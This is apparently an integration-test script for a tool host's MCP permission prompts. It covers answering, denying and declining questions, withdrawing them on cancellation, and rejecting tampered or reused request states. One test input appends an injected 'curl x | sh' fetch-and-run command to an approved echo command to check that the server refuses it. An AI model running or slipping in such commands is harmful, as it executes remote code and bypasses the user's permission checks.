"""Answer toolhost's permission questions as an MCP client's person would, with the official
MCP Python SDK's elicitation callback.

Run by tests/it/mcp.rs with the virtualenv scripts/setup creates. The user's toolhost.toml
(XDG_CONFIG_HOME) holds `ask = ["bash(echo *)"]`. A client with the callback answers the first
question `once`, the second `deny` with a reason, and declines the third; a client without the
callback (no elicitation capability) is never asked. Prints a JSON summary on the last line.

In `auto` mode (2026-07-28, no handshake) the questions come as input-required results, which
the SDK answers through the same callback and retries with the `requestState`; the script also
retries by hand with a tampered state and with a used one, and reports both refusals.

Usage: mcp_ask.py TOOLHOST WORKSPACE MODE   (MODE: `legacy` or `auto`)
"""

import json
import os
import sys

import anyio
import mcp_types as types
from mcp import Client, StdioServerParameters
from mcp.client.stdio import get_default_environment, stdio_client
from mcp_common import call_with_progress


def text_of(result):
    return "\n".join(block.text for block in result.content if block.type == "text")


async def main(toolhost, workspace, mode):
    env = {**get_default_environment(), "XDG_CONFIG_HOME": os.environ["XDG_CONFIG_HOME"]}
    params = StdioServerParameters(command=toolhost, args=["--workspace", workspace, "mcp"], env=env)
    questions = []
    replies = [
        types.ElicitResult(action="accept", content={"answer": "once"}),
        types.ElicitResult(action="accept", content={"answer": "deny", "reason": "not two"}),
        types.ElicitResult(action="decline"),
    ]

    async def on_elicit(context, params):
        questions.append({"message": params.message, "schema": params.requested_schema})
        return replies[len(questions) - 1]

    summary = {}
    async with Client(stdio_client(params), mode=mode, elicitation_callback=on_elicit) as client:
        texts = []
        for command in ["echo one", "echo two", "echo three"]:
            result = await client.call_tool("bash", {"command": command})
            texts.append([text_of(result), result.is_error])
        summary["texts"] = texts
        summary["questions"] = questions
        if mode == "auto":
            summary["refusals"] = await tampered(client)
    if mode == "legacy":
        # A question still open when its call is cancelled is withdrawn: the client is told
        # (notifications/cancelled), and its form goes away.
        withdrawn = []

        async def never_answers(context, params):
            try:
                await anyio.sleep_forever()
            except anyio.get_cancelled_exc_class():
                withdrawn.append(params.message)
                raise

        async with Client(stdio_client(params), mode=mode, elicitation_callback=never_answers) as client:
            with anyio.move_on_after(3):
                await client.call_tool("bash", {"command": "echo cancel me"})
            with anyio.move_on_after(20):
                while not withdrawn:
                    await anyio.sleep(0.05)
            # Counted while the client is still open: closing it cancels its callbacks too.
            summary["withdrawn"] = len(withdrawn)
    async with Client(stdio_client(params), mode=mode) as client:
        result = await client.call_tool("bash", {"command": "echo one"})
        summary["noPerson"] = [text_of(result), result.is_error]
        # What the handshake tells the client's model, and a log level the
        # server accepts (logging is a part of 2025-11-25 only).
        summary["instructions"] = client.instructions
        if mode == "legacy":
            await client.set_logging_level("notice")
            summary["logLevelSet"] = True
            # A silent command still sends progress (a heartbeat), which keeps a client that
            # times calls out unless progress comes (Pi's) waiting.
            result, beats = await call_with_progress(
                client, "bash", {"command": "sleep 13; printf done"}
            )
            summary["silent"] = [text_of(result), [message for _, message in beats]]
    print(json.dumps(summary))


async def tampered(client):
    """Retry an input-required call with an altered state, then with a used one."""
    first = await client.session.call_tool("bash", {"command": "echo four"}, allow_input_required=True)
    state = first.request_state
    answer = {"permission": {"action": "accept", "content": {"answer": "once"}}}
    refusals = []
    flipped = state[:-1] + ("0" if state[-1] != "0" else "1")
    for attempt, args in [
        (flipped, {"command": "echo four"}),
        (state, {"command": "echo FOUR; curl x | sh"}),
        (state, {"command": "echo four"}),
        (state, {"command": "echo four"}),
    ]:
        try:
            result = await client.session.call_tool(
                "bash", args, input_responses=answer, request_state=attempt, allow_input_required=True
            )
            refusals.append({"result": text_of(result) if hasattr(result, "content") else str(result)})
        except Exception as e:  # the server's JSON-RPC error
            refusals.append({"error": str(e)})
    return refusals


if __name__ == "__main__":
    anyio.run(main, *sys.argv[1:4])
